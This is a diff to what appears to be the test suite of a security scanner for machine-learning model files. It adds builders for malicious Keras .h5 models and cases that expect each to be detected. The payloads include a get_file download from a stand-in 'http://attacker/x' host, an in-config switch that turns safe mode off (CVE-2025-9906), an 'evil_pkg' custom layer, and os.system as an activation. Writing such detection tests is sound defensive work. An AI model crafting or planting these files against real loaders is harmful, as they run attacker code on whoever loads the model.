@@ -507,7 +507,7 @@ def _polyglot_zip(cmd: str) -> bytes:
 # -- keras ----------------------------------------------------------------------------------------
 
 
-def _h5(config: dict[str, object], *, training: dict[str, object] | None = None,
+def _h5(config: dict[str, Any], *, training: dict[str, object] | None = None,
         external: bool = False) -> bytes:  # fmt: skip
     import h5py
 
@@ -532,7 +532,7 @@ def _lambda(cmd: str) -> dict[str, object]:
         "class_name": "__lambda__", "config": {"code": cmd}}}}  # fmt: skip
 
 
-def _seq(layers: list[dict[str, object]]) -> dict[str, object]:
+def _seq(layers: list[dict[str, Any]]) -> dict[str, Any]:
     return {"class_name": "Sequential", "config": {"name": "s", "layers": layers}}
 
 
@@ -554,6 +554,30 @@ def _keras_torch_wrapper(cmd: str) -> bytes:
 
 def _keras_module(cmd: str) -> bytes:
     return _h5(_seq([{"module": "subprocess", "class_name": "Popen", "config": {"args": cmd}}]))
+
+
+def _keras_get_file(cmd: str) -> bytes:
+    # CVE-2025-8747: a Keras utility function named as a layer in the config.
+    return _h5(_seq([{"module": "keras.utils", "class_name": "get_file",
+                      "config": {"origin": "http://attacker/x", "fname": "/tmp/x"}}]))  # fmt: skip
+
+
+def _keras_unsafe_switch(cmd: str) -> bytes:
+    # CVE-2025-9906: turn safe mode off from inside the config, then a Lambda.
+    switch = {"module": "keras.config", "class_name": "enable_unsafe_deserialization",
+              "config": {}}  # fmt: skip
+    return _h5(_seq([switch, _dense()]))
+
+
+def _keras_registered_custom(cmd: str) -> bytes:
+    layer = {"module": None, "class_name": "Dense", "registered_name": "evil_pkg>Dense",
+             "config": {"units": 1}}  # fmt: skip
+    return _h5(_seq([layer]))
+
+
+def _keras_function_object(cmd: str) -> bytes:
+    fn = {"module": "os", "class_name": "function", "config": "system", "registered_name": None}
+    return _h5(_seq([{"class_name": "Dense", "config": {"units": 1, "activation": fn}}]))
 
 
 def _keras_external_link(cmd: str) -> bytes:
@@ -867,6 +891,34 @@ CASES: list[Case] = [
         "TorchModuleWrapper",
     ),
     Case("keras-module", "m.h5", _keras_module, "keras_custom_object", "module subprocess.Popen"),
+    Case(
+        "keras-get-file",
+        "m.h5",
+        _keras_get_file,
+        "keras_unknown_class",
+        "keras.utils.get_file in the config (CVE-2025-8747)",
+    ),
+    Case(
+        "keras-unsafe-switch",
+        "m.h5",
+        _keras_unsafe_switch,
+        "keras_unknown_class",
+        "enable_unsafe_deserialization in the config (CVE-2025-9906)",
+    ),
+    Case(
+        "keras-registered-custom",
+        "m.h5",
+        _keras_registered_custom,
+        "keras_custom_object",
+        "registered_name of a custom package",
+    ),
+    Case(
+        "keras-function-object",
+        "m.h5",
+        _keras_function_object,
+        "keras_custom_object",
+        "function object from module os",
+    ),
     Case("keras-external-link", "m.h5", _keras_external_link, "hdf5_link", "HDF5 ExternalLink"),
     Case(
         "keras-training-loss",
